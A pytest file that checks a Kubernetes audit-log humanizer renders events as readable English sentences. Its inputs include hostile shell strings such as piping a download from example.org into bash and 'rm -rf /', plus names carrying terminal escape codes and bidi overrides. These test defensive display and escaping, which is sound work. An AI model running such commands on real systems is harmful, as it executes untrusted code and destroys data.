"""Every event reads as one good English sentence."""

from __future__ import annotations

import unicodedata
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from audit_webhook.events.event import Event
from audit_webhook.humanize import badge, emphasis, outcome, sentence, summary, why
from tests.recorded import (
    FORBID, KUBELET, MANAGER, POD, SCHEDULER, TYPED, controller, in_pod, ran, read, ref, status, user,
)

ON_NODE: dict[str, Any] = {"userAgent": KUBELET, "user": user("system:node:n1")}
FIVE_MINUTES_AGO = "2026-11-23T11:55:00.000000Z"
INVISIBLE = ("Cc", "Cf", "Cn", "Co", "Cs", "Zl", "Zp")

READS: list[tuple[dict[str, Any], str]] = [
    ({}, "alice read pod web-0 in shop"),
    ({"verb": "list", "objectRef": ref("pods", namespace="shop")}, "alice listed pods in shop"),
    ({"verb": "list", "objectRef": ref("pods")}, "alice listed pods in all namespaces"),
    ({"verb": "list", "objectRef": ref("nodes")}, "alice listed nodes"),
    ({"verb": "list", "objectRef": ref("pods", namespace="shop"), "requestURI": "/x?labelSelector=app%3Dweb"},
     "alice listed pods in shop with app=web"),
    ({"verb": "list", "objectRef": ref("pods", namespace="shop", group="metrics.k8s.io")},
     "alice listed pod metrics in shop"),
    ({"verb": "list", "objectRef": ref("ingresses", namespace="shop")}, "alice listed ingresses in shop"),
    ({"verb": "list", "objectRef": ref("networkpolicies")}, "alice listed network policies in all namespaces"),
    ({"objectRef": ref("gizmos", "g", "shop", "spin")}, "alice read the spin of gizmo g in shop"),
    ({"objectRef": ref("pods", "web-0", "shop", "ephemeralcontainers")},
     "alice read the debug containers of pod web-0 in shop"),
    ({"verb": "watch", "stage": "ResponseStarted", "objectRef": ref("pods", namespace="shop")},
     "alice started watching pods in shop"),
    ({"verb": "watch", "objectRef": ref("pods", namespace="shop"), "requestReceivedTimestamp": FIVE_MINUTES_AGO},
     "alice stopped watching pods in shop after 5 min"),
    ({"objectRef": None, "requestURI": "/version?timeout=5s"}, "alice asked for the server's version"),
    ({"objectRef": None, "requestURI": "/apis/apps/v1"}, "alice asked which APIs there are"),
    ({"objectRef": None, "requestURI": "/openapi/v3"}, "alice read the API's schema"),
    ({"objectRef": None, "requestURI": "/livez"}, "alice checked the apiserver's health"),
    ({"objectRef": None, "requestURI": "/other/path"}, "alice sent GET /other/path"),
    ({"objectRef": None, "verb": "post", "requestURI": "/version"}, "alice sent POST /version"),
]
SESSIONS: list[tuple[dict[str, Any], str]] = [
    (ran("command=sh", TYPED), "alice opened a shell in pod web-0 in shop (container app)"),
    (ran("command=%2Fbin%2Fbash&command=-il", TYPED), "alice opened a shell in pod web-0 in shop (container app)"),
    (ran("command=sh&command=-c&command=clear%3B+(bash+%7C%7C+ash+%7C%7C+sh)", TYPED),
     "alice opened a shell in pod web-0 in shop (container app)"),
    (ran("command=bash", TYPED, requestReceivedTimestamp=FIVE_MINUTES_AGO),
     "alice opened a shell in pod web-0 in shop (container app), ended after 5 min"),
    (ran("command=sh"), "alice ran “sh” in pod web-0 in shop (container app)"),
    (ran("command=sh&command=-c&command=id%3B+sh", TYPED),
     "alice ran “sh -c 'id; sh'” in pod web-0 in shop (container app)"),
    (ran("command=ls&command=-l&command="), "alice ran “ls -l ''” in pod web-0 in shop (container app)"),
    (ran("command=echo&command=it%27s"), "alice ran “echo \"it's\"” in pod web-0 in shop (container app)"),
    (ran("command=tar&command=cf&command=-&command=%2Fetc%2Fhosts"),
     "alice copied /etc/hosts out of pod web-0 in shop (container app)"),
    (ran("command=tar&command=-xmf&command=-&command=-C&command=%2Ftmp", "&stdin=true"),
     "alice copied files into /tmp of pod web-0 in shop"),
    (ran("command=tar&command=czf&command=%2Fx.tgz&command=%2Fetc"),
     "alice ran “tar czf /x.tgz /etc” in pod web-0 in shop (container app)"),
    (in_pod("exec", "container=app"), "alice ran a command in pod web-0 in shop (container app)"),
    (in_pod("log", ""), "alice read the log of pod web-0 in shop"),
    (in_pod("log", "container=app&previous=true"), "alice read the previous log of pod web-0 in shop (container app)"),
    (in_pod("log", "follow=true"), "alice followed the log of pod web-0 in shop"),
    (in_pod("attach", "container=app"), "alice attached to pod web-0 in shop (container app)"),
    (in_pod("portforward", ""), "alice forwarded a port to pod web-0 in shop"),
    ({"objectRef": ref("nodes", "n1", "", "proxy"), "requestURI": "/api/v1/nodes/n1/proxy/metrics?x=1"},
     "alice called /metrics of node n1 through the apiserver"),
    ({"objectRef": ref("pods", "proxy", "proxy", "proxy"), "requestURI": "/api/v1/namespaces/proxy/pods/proxy/proxy/x"},
     "alice called /x of pod proxy in proxy through the apiserver"),
    ({"objectRef": ref("services", "web:80", "shop", "proxy"), "responseStatus": status(403),
      "requestURI": "/api/v1/namespaces/shop/services/web:80/proxy/"},
     "alice tried to call / of service web:80 in shop through the apiserver: the answer was 403"),
]
WRITES: list[tuple[dict[str, Any], str]] = [
    ({"verb": "delete", "objectRef": ref("secrets", "db", "payments")}, "alice deleted secret db in payments"),
    ({"verb": "create", "objectRef": ref("pods", namespace="shop")}, "alice created a pod in shop"),
    ({"verb": "create", "objectRef": ref("ingresses", namespace="shop")}, "alice created an ingress in shop"),
    ({"verb": "create", "objectRef": ref("users", group="example.org")}, "alice created a user"),
    ({"verb": "create", "objectRef": ref("namespaces", "shop", "shop")}, "alice created namespace shop"),
    ({"verb": "deletecollection", "objectRef": ref("networkpolicies", namespace="shop")},
     "alice deleted all network policies in shop"),
    ({"verb": "patch", "objectRef": ref("gizmos", "g", "shop")}, "alice changed gizmo g in shop"),
    ({"verb": "patch", "responseStatus": status(201)}, "alice created pod web-0 in shop"),
    ({"verb": "frobnicate", "objectRef": ref("gizmos", "g")}, "alice sent frobnicate for gizmo g"),
    ({"verb": "delete", "requestURI": "/x?dryRun=All"},
     "alice deleted pod web-0 in shop (dry run: nothing was changed)"),
    ({"verb": "patch", "objectRef": ref("deployments", "web", "shop", "scale")}, "alice scaled deployment web in shop"),
    ({"verb": "create", "objectRef": ref("pods", "web-0", "shop", "binding"), "userAgent": SCHEDULER,
      "user": user("system:kube-scheduler")},
     "the scheduler placed pod web-0 in shop on a node"),
    ({"verb": "create", "objectRef": ref("pods", "web-0", "shop", "eviction")}, "alice evicted pod web-0 in shop"),
    ({"verb": "patch", "objectRef": ref("pods", "web-0", "shop", "ephemeralcontainers")},
     "alice put a debug container into pod web-0 in shop"),
    ({"verb": "patch", "objectRef": ref("pods", "web-0", "shop", "status"), **ON_NODE},
     "node n1 reported the status of pod web-0 in shop"),
    ({"verb": "patch", "objectRef": ref("pods", "web-0", "shop", "status")},
     "alice changed the status of pod web-0 in shop"),
    ({"verb": "create", "objectRef": ref("serviceaccounts", "ci", "shop", "token")},
     "alice created a token for service account ci in shop"),
    ({"verb": "update", "objectRef": ref("namespaces", "old", "old", "finalize")},
     "alice finished the deletion of namespace old"),
    ({"verb": "create", "objectRef": ref("selfsubjectaccessreviews")}, "alice checked their own rights"),
    ({"verb": "create", "objectRef": ref("selfsubjectaccessreviews"), **ON_NODE},
     "node n1 checked its own rights"),
    ({"verb": "create", "objectRef": ref("tokenreviews"), **ON_NODE},
     "node n1 had a token checked"),
    ({"verb": "create", "objectRef": ref("localsubjectaccessreviews", namespace="shop")},
     "alice checked the rights of a user in shop"),
    ({"verb": "update", "objectRef": ref("leases", "n1", "kube-node-lease"), **ON_NODE},
     "node n1 renewed lease n1 in kube-node-lease"),
    ({"verb": "create", "objectRef": ref("events", "web-0.17", "shop"), **ON_NODE},
     "node n1 reported an event in shop"),
]
FAILURES: list[tuple[dict[str, Any], str]] = [
    ({"verb": "list", "objectRef": ref("secrets", namespace="kube-system"), "annotations": FORBID,
      "responseStatus": status(403)}, "alice was not allowed to list secrets in kube-system"),
    ({"verb": "list", "annotations": {}, "objectRef": ref("pods", namespace="shop"),
      "responseStatus": status(
          403, "Forbidden", 'users "bob" is forbidden: User "alice" cannot impersonate resource "users"')},
     "alice was not allowed to act as another user to list pods in shop"),
    ({"verb": "create", "responseStatus": status(403, "Forbidden", "exceeded quota: compute, requested: pods=1")},
     "alice tried to create pod web-0 in shop: quota exceeded"),
    ({"verb": "create", "responseStatus": status(
        400, "", 'admission webhook "deny.example.org" denied the request: no')},
     "alice tried to create pod web-0 in shop: admission webhook deny.example.org refused it"),
    ({"verb": "create", "responseStatus": status(403, "Forbidden", "no")},
     "alice tried to create pod web-0 in shop: it was refused"),
    ({"responseStatus": status(404)}, "alice tried to read pod web-0 in shop: not found"),
    ({"verb": "delete", "responseStatus": status(404)}, "alice tried to delete pod web-0 in shop: not found"),
    ({"verb": "create", "responseStatus": status(404, "NotFound", 'namespaces "shop" not found')},
     "alice tried to create pod web-0 in shop: there is no such namespace"),
    (in_pod("log", "", responseStatus=status(404)),
     "alice tried to read the log of pod web-0 in shop: there is no such pod"),
    ({"verb": "list", "objectRef": ref("gizmos"), "responseStatus": status(404)},
     "alice tried to list gizmos: the server knows no gizmos"),
    ({"objectRef": None, "requestURI": "/version", "responseStatus": status(404)},
     "alice tried to ask for the server's version: there is no such path"),
    ({"verb": "create", "responseStatus": status(409, "AlreadyExists")},
     "alice tried to create pod web-0 in shop: it already exists"),
    ({"verb": "update", "responseStatus": status(409, "Conflict")},
     "alice tried to update pod web-0 in shop: it was changed in the meantime (conflict)"),
    ({"verb": "create", "objectRef": ref("pods", "web-0", "shop", "eviction"), "responseStatus": status(
        429, "TooManyRequests", "Cannot evict pod as it would violate the pod's disruption budget.")},
     "alice tried to evict pod web-0 in shop: its disruption budget does not allow it"),
    ({"responseStatus": status(429)}, "alice tried to read pod web-0 in shop: rate limited"),
    ({"verb": "patch", "responseStatus": status(422)},
     "alice tried to change pod web-0 in shop: the object is invalid"),
    ({"responseStatus": status(418)}, "alice tried to read pod web-0 in shop: the answer was 418"),
    ({"responseStatus": status(500)}, "alice tried to read pod web-0 in shop: the server failed"),
    ({"verb": "delete", "responseStatus": status(504, "Timeout")},
     "alice tried to delete pod web-0 in shop: timed out; it may have happened"),
    ({"user": {}, "responseStatus": status(401)},
     "an unauthenticated caller tried to read pod web-0 in shop"),
    ({"stage": "RequestReceived", "responseStatus": None}, "alice asked to read pod web-0 in shop"),
    ({"stage": "Panic", "responseStatus": status(500)},
     "alice tried to read pod web-0 in shop: the apiserver panicked"),
    ({"verb": "watch", "objectRef": ref("pods"), "responseStatus": status(410),
      "requestReceivedTimestamp": FIVE_MINUTES_AGO},
     "alice tried to watch pods in all namespaces: the resource version is too old"),
]
ACTORS: list[tuple[dict[str, Any], str]] = [
    ({"userAgent": MANAGER, "user": controller("daemon-set-controller")},
     "the daemon set controller read pod web-0 in shop"),
    ({"userAgent": MANAGER, "user": controller("generic-garbage-collector")},
     "the garbage collector read pod web-0 in shop"),
    ({"user": controller("evil-controller")},
     "service account kube-system/evil-controller read pod web-0 in shop"),
    ({"user": user("system:serviceaccount:shop:bot")}, "service account shop/bot read pod web-0 in shop"),
    ({"user": user("system:serviceaccount:")}, "system:serviceaccount: read pod web-0 in shop"),
    ({"userAgent": KUBELET, "user": user("system:node:")}, "system:node: read pod web-0 in shop"),
    ({"user": user(" alice")}, "“ alice” read pod web-0 in shop"),
    ({"user": user("jane doe")}, "jane doe read pod web-0 in shop"),
    ({"user": {}}, "an unknown caller read pod web-0 in shop"),
    ({"verb": "delete", "impersonatedUser": user("bob")}, "alice, acting as bob, deleted pod web-0 in shop"),
]
CASES = READS + SESSIONS + WRITES + FAILURES + ACTORS


@pytest.mark.parametrize(("changes", "expected"), CASES, ids=[expected for _, expected in CASES])
def test_event_reads_as(changes: dict[str, Any], expected: str) -> None:
    assert summary(read(**changes)) == expected


def test_actor_and_object_are_parts_of_their_own() -> None:
    parts = sentence(read(verb="delete"))
    assert [(part.text, part.role) for part in parts if part.role != "text"] == [
        ("alice", "actor"), ("web-0", "object"), ("shop", "namespace"),
    ]


@pytest.mark.parametrize(
    ("name", "shown"),
    [
        ("a\u202eb\x1b[31m\nc", r"a\u202eb\u001b[31m\u000ac"),
        ("web\u3164", r"web\u3164"),
        ("web\u00a0x", r"web\u00a0x"),
        ("web\U000e0041", r"web\U000e0041"),
        ("w" + "\u0301" * 4, "w\u0301\u0301\\u0301\\u0301"),
        ("garcía", "garcía"),
        ("x in kube-system", "“x in kube-system”"),
    ],
)
def test_text_that_would_act_hide_or_pretend_is_written_out(name: str, shown: str) -> None:
    event = Event(id="x", cluster="c", time=1, verb="get", user="alice", resource="pods", name=name)
    assert summary(event) == f"alice read pod {shown}"


def test_huge_texts_are_shortened() -> None:
    huge = "\u202e" * 100_000
    event = Event(id="x", cluster="c", time=1, verb=huge, user=huge, resource=huge, name=huge, namespace=huge)
    assert len(summary(event)) < 600


def test_script_that_does_more_than_open_a_shell_is_shown() -> None:
    for script in ("curl example.org | bash", "rm -rf /; sh", "bash /tmp/x.sh", "echo sh"):
        event = Event(
            id="x", cluster="c", time=1, verb="get", user="alice", resource="pods", subresource="exec", name="web-0",
            request_uri=f"{POD}exec?command=sh&command=-c&command={script.replace(' ', '+')}&tty=true",
        )
        assert summary(event).startswith("alice ran “sh -c '"), script


ANY = st.text(max_size=40) | st.sampled_from([
    "", "get", "create", "watch", "patch", "pods", "secrets", "nodes", "exec", "proxy", "status", "log", "system:node:",
    "system:serviceaccount:", "?command=&tty=1", "/proxy/", "allow", "forbid", "Panic", "ResponseComplete", "human",
    "rbac.authorization.k8s.io", 'User "x" cannot impersonate', "?command=tar&command=xf&command=-&stdin=true",
])
FIELDS = (
    "verb", "resource", "subresource", "name", "namespace", "user", "impersonated_user", "request_uri", "decision",
    "status_reason", "status_message", "stage", "kind", "api_group", "command",
)


@settings(derandomize=True, max_examples=500, deadline=None)
@given(
    st.fixed_dictionaries({name: ANY for name in FIELDS}),
    st.none() | st.integers(0, 999),
    st.integers(),
    st.booleans(),
)
def test_no_event_breaks_a_sentence(fields: dict[str, Any], code: int | None, time: int, dry_run: bool) -> None:
    event = Event(id="x", cluster="c", time=time, requested=1, code=code, dry_run=dry_run, **fields)
    text = f"{summary(event)} {badge(event).text} {outcome(event).text} {why(event)}"
    assert emphasis(event) in ("hot", "warm", "quiet", "plain")
    assert len(text) < 1_000
    assert not any(unicodedata.category(character) in INVISIBLE for character in text)
